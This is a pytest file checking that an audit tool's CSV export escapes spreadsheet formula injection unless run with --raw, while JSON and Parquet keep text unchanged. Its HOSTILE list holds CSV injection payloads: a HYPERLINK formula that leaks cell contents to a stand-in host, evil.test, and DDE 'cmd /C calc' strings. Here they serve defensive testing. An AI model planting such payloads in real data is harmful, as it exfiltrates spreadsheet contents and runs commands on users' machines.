"""Exports are safe to open in a spreadsheet: `audit export --format csv` escapes cells a
spreadsheet would run as formulas (OWASP CSV injection) unless `--raw`; JSON and Parquet
keep every text as it is. Real CLI process, real SQLite store."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest

from probes.base import Channel, Observation, Status
from results.store import Store
from tests.cli_process import audit_process

HOSTILE = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DETAIL = "=2+5 detail"
HARMLESS = "Good Co"


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    assert audit_process("init", str(ws)).returncode == 0
    store = Store.open(f"sqlite:///{ws / 'audit.db'}")
    names = [*HOSTILE, HARMLESS]
    store.save_campaign(
        "c1", "Test", "2026-Q4", str(ws / "campaign.yaml"), {"rubric": "default"},
        {name: {"name": name} for name in names},
    )  # fmt: skip
    store.plan_attempts("c1", [(f"a{i}", name, "website", 1) for i, name in enumerate(names)])
    now = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
    for i, name in enumerate(names):
        observation = Observation(
            attempt_id=f"a{i}",
            company=name,
            channel=Channel.PHONE,
            probe_id="website",
            status=Status.OK,
            started=now,
            finished=now,
            metrics={"phone.on_homepage": i % 2 == 0, "phone.clicks_to_find": -1},
            detail=DETAIL,
        )
        store.record("c1", f"a{i}", [observation])
    store.close()
    return ws


def export(workspace: Path, out: Path, fmt: str, *extra: str) -> Path:
    result = audit_process(
        "export", "-w", str(workspace), "--format", fmt, "--out", str(out), *extra
    )
    assert result.returncode == 0, result.stderr
    return out


def csv_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_csv_cells_that_would_be_formulas_are_escaped(workspace: Path, tmp_path: Path) -> None:
    out = export(workspace, tmp_path / "csv", "csv")
    for name in ("observations", "scores", "leaderboard"):
        cells = csv_cells(out / f"{name}.csv")
        for hostile in HOSTILE:
            assert "'" + hostile in cells, (name, hostile)
        assert HARMLESS in cells
        dangerous = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        # numbers stay numbers: a negative count is not text a spreadsheet could run
        assert all(c.lstrip("-").replace(".", "", 1).isdigit() for c in dangerous), dangerous
    observations = csv_cells(out / "observations.csv")
    assert "'" + DETAIL in observations
    assert "-1" in observations or "-1.0" in observations


def test_raw_csv_keeps_text_as_it_is(workspace: Path, tmp_path: Path) -> None:
    out = export(workspace, tmp_path / "raw", "csv", "--raw")
    cells = csv_cells(out / "observations.csv")
    for hostile in [*HOSTILE, DETAIL]:
        assert hostile in cells
        assert "'" + hostile not in cells


def test_json_and_parquet_keep_text_as_it_is(workspace: Path, tmp_path: Path) -> None:
    data = json.loads((export(workspace, tmp_path / "json", "json") / "export.json").read_text())
    assert {row["company"] for row in data["observations"]} == {*HOSTILE, HARMLESS}
    assert {row["detail"] for row in data["observations"]} == {DETAIL}
    parquet = export(workspace, tmp_path / "parquet", "parquet")
    frame = pd.read_parquet(parquet / "observations.parquet")
    assert set(frame["company"]) == {*HOSTILE, HARMLESS}
    assert set(pd.read_parquet(parquet / "scores.parquet")["company"]) == {*HOSTILE, HARMLESS}
